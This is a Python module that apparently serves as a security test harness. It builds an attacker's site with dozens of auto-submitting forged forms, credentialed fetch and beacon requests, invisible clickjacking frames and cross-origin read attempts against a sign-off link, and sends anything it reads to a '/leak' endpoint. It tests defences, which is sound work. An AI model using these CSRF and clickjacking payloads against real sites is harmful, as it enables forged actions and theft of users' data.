"""A stranger's site, whose pages know a sign-off link, and even what to write into its form, and use that.

Each page is named for what it tries. What it gets to see of our pages it sends to `/leak`.
"""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from html import escape
from typing import Any
from urllib.parse import parse_qs, urlencode

FRAME = """<!doctype html><meta charset=utf-8><title>stranger</title>{meta}
<script>const link = {LINK}, body = {BODY}, evil = location.origin;
const leak = (what) => fetch("/leak", { method: "POST", body: String(what) });
const read = (answer) => answer.text().then(leak, () => 0);
const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
const send = () => document.forms[0].submit();
addEventListener("DOMContentLoaded", () => { {script} });</script>
<body>{html}"""
FORM = '<form method=post action="{link}" {more}>{fields}<button>win a prize</button></form>'
URLENCODED = '{"Content-Type": "application/x-www-form-urlencoded"}'


@dataclass(frozen=True, kw_only=True)
class Trick:
    """`html` and `meta` may name {link}, {fields} and {form}; `script` runs once the page is there."""

    html: str = ""
    script: str = ""
    meta: str = ""
    more: str = ""  # of the form


def form(script: str = "send()", **parts: str) -> Trick:
    return Trick(html=parts.pop("html", "{form}"), script=script, **parts)


def element(html: str) -> Trick:
    return Trick(html=html)


ACTS: Mapping[str, Trick] = {
    "a form that sends itself": form(),
    "a form without a referrer": form(meta='<meta name=referrer content="no-referrer">'),
    "a form in another tab": form(more='target="_blank"'),
    "a form into a frame": form(more='target="inner"', html="{form}<iframe name=inner></iframe>"),
    "a form of plain text": form(more='enctype="text/plain"'),
    "a form in parts": form(more='enctype="multipart/form-data"'),
    "a form by GET": form("document.forms[0].method = 'get'; send()"),
    "a pressed button": form("document.forms[0].querySelector('button').click()"),
    "a button with an address": form(
        "document.forms[0].action = '/'; const b = document.forms[0].querySelector('button');"
        " b.formAction = link; b.click()"
    ),
    "a form that is sent on (307)": form(
        "document.forms[0].action = '/on?to=' + encodeURIComponent(link); send()"
    ),
    "a form in a sandbox": Trick(
        script="add('<iframe sandbox=\"allow-scripts allow-forms\"></iframe>');"
        "document.querySelector('iframe').srcdoc = document.getElementById('f').innerHTML"
        " + '<script>document.forms[0].submit()<' + '/script>'",
        html="<template id=f>{form}</template>",
    ),
    "a form from a data address": Trick(
        script="add('<iframe></iframe>'); document.querySelector('iframe').src = 'data:text/html,'"
        " + encodeURIComponent(document.getElementById('f').innerHTML"
        " + '<script>document.forms[0].submit()<' + '/script>')",
        html="<template id=f>{form}</template>",
    ),
    "a form from a blob": Trick(
        script="add('<iframe></iframe>');"
        "document.querySelector('iframe').src = URL.createObjectURL(new Blob("
        "[document.getElementById('f').innerHTML + '<script>document.forms[0].submit()<' + '/script>'],"
        " {type: 'text/html'}))",
        html="<template id=f>{form}</template>",
    ),
    "fetch, not reading": Trick(
        script=f"fetch(link, {{method: 'POST', mode: 'no-cors', body, headers: {URLENCODED}}}).catch(() => 0)"
    ),
    "fetch, reading": Trick(
        script=f"fetch(link, {{method: 'POST', body, headers: {URLENCODED}}}).then(read, () => 0)"
    ),
    "fetch with cookies": Trick(
        script=f"fetch(link, {{method: 'POST', credentials: 'include', body, headers: {URLENCODED}}})"
        ".then(read, () => 0)"
    ),
    "fetch with a header of its own": Trick(
        script=f"fetch(link, {{method: 'POST', body, headers: {{...{URLENCODED}, 'X-Requested-With': 'x'}}}})"
        ".then(read, () => 0)"
    ),
    "fetch that outlives its page": Trick(
        script="fetch(link, {method: 'POST', mode: 'no-cors', keepalive: true,"
        " body: new URLSearchParams(body)}).catch(() => 0)"
    ),
    "fetch by PUT": Trick(script="fetch(link, {method: 'PUT', body}).then(read, () => 0)"),
    "a beacon": Trick(script="navigator.sendBeacon(link, new URLSearchParams(body))"),
    "a beacon of text": Trick(script="navigator.sendBeacon(link, body)"),
    "XMLHttpRequest": Trick(
        script="const x = new XMLHttpRequest(); x.open('POST', link); x.onload = () => leak(x.responseText);"
        "x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded'); x.send(body)"
    ),
    "a ping": Trick(
        html='<a id=a href="#x">x</a>',
        script="const a = document.getElementById('a'); a.ping = link; a.click()",
    ),
    "a web socket": Trick(script="new WebSocket(link.replace('http', 'ws')).onmessage = (e) => leak(e.data)"),
    "a window and its form": Trick(
        html="{form}", script="window.open('about:blank', 'w'); document.forms[0].target = 'w'; send()"
    ),
}
LOOKS: Mapping[str, Trick] = {
    "a frame": Trick(
        html='<iframe src="{link}" onload="try { leak(this.contentDocument.body.innerHTML) }'
        ' catch {}"></iframe>'
    ),
    "an invisible frame over a button": element(
        '<iframe src="{link}" style="opacity:0;position:fixed;inset:0;width:100vw;height:100vh"></iframe>'
    ),
    "a frame in a frame": Trick(
        script="add('<iframe></iframe>'); document.querySelector('iframe').srcdoc ="
        " '<iframe src=\"' + link + '\"></iframe>'"
    ),
    "a sandboxed frame": element('<iframe sandbox="allow-scripts allow-forms" src="{link}"></iframe>'),
    "an object": element('<object data="{link}"></object>'),
    "an embedded page": element('<embed src="{link}">'),
    "a picture": element('<img src="{link}" onload="leak(this.width)">'),
    "a script": Trick(html='<script src="{link}" onload="leak(1)"></script>'),
    "a module": Trick(script="import(link).then(leak, () => 0)"),
    "a style sheet": element('<link rel=stylesheet href="{link}" onload="leak(this.sheet.cssRules.length)">'),
    "a background": element('<div style="width:9px;height:9px;background:url({link})"></div>'),
    "a font": element(
        "<style>@font-face { font-family: x; src: url({link}) } b { font-family: x }</style><b>x</b>"
    ),
    "a film": element('<video autoplay src="{link}"></video>'),
    "fetch of the page": Trick(script="fetch(link).then(read, () => 0)"),
    "fetch of the page with cookies": Trick(
        script="fetch(link, {credentials: 'include'}).then(read, () => 0)"
    ),
    "events of the page": Trick(script="new EventSource(link).onmessage = (e) => leak(e.data)"),
    "prefetch": element('<link rel=prefetch href="{link}">'),
    "prerender": element('<link rel=prerender href="{link}">'),
    "preload": element('<link rel=preload as=fetch href="{link}">'),
    "a rule that prefetches": element(
        '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["{link}"]}]}</script>'
    ),
    "a rule that prerenders": element(
        '<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["{link}"]}]}</script>'
    ),
    "a window it opened": Trick(
        script="const w = window.open(link); const t = setInterval(() => {"
        " try { if (w.document.body.innerText.trim()) { leak(w.document.body.innerText); clearInterval(t) } }"
        " catch { clearInterval(t) } }, 20); addEventListener('message', (e) => leak(e.data))"
    ),
    "the frames of a window it opened": Trick(
        script="const w = window.open(link);"
        " setTimeout(() => { if (w.frames.length) leak(w.frames.length) }, 200)"
    ),
    "a page that moves on by itself": Trick(meta='<meta http-equiv=refresh content="0;url={link}">'),
    "a download": Trick(
        html='<a id=a href="{link}" download>x</a>', script="document.getElementById('a').click()"
    ),
}
LEAVES: Mapping[str, str] = {  # run in our page, as if something there led to the stranger
    "leaving by address": "(evil) => { location.href = evil }",
    "leaving by a link": "(evil) => {"
    " document.body.insertAdjacentHTML('beforeend', `<a id=x href=${evil}>x</a>`);"
    " document.getElementById('x').click() }",
    "leaving in another tab": "(evil) => { window.open(evil) }",
    "leaving by a form": "(evil) => { const f = document.forms[0]; f.action = evil; f.submit() }",
    "a picture of the stranger's": "(evil) => {"
    " document.body.insertAdjacentHTML('beforeend', `<img src=${evil}>`) }",
}
TRICKS: Mapping[str, Trick] = {**ACTS, **LOOKS}


def page_of(trick: Trick, link: str, fields: Mapping[str, str]) -> str:
    hidden = "".join(f'<input type=hidden name="{name}" value="{escape(v)}">' for name, v in fields.items())
    made = FRAME
    for name, part in {
        "meta": trick.meta,
        "script": trick.script,
        "html": trick.html,
        "form": FORM,
        "more": trick.more,
        "fields": hidden,
        "link": link,
        "LINK": json.dumps(link),
        "BODY": json.dumps(urlencode(fields)),
    }.items():
        made = made.replace(f"{{{name}}}", part)
    return made


@dataclass
class Stranger:
    """The stranger's server. `said`: what reached it of ours, by a leak or in a header."""

    pages: dict[str, str] = field(default_factory=dict)
    leaks: list[str] = field(default_factory=list)
    headers: list[str] = field(default_factory=list)

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        body = await _body(receive)
        path = scope["path"]
        self.headers += [
            value.decode("latin-1") for name, value in scope["headers"] if name in (b"referer", b"origin")
        ]
        if path == "/leak":
            self.leaks.append(body.decode(errors="replace"))
        headers = [(b"content-type", b"text/html; charset=utf-8")]
        status = 200
        if path == "/on":
            status = 307
            headers.append((b"location", parse_qs(scope["query_string"].decode())["to"][0].encode()))
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": self.pages.get(path, "").encode()})


async def _body(receive: Any) -> bytes:
    found = b""
    while True:
        message = await receive()
        found += message.get("body", b"")
        if not message.get("more_body"):
            return found
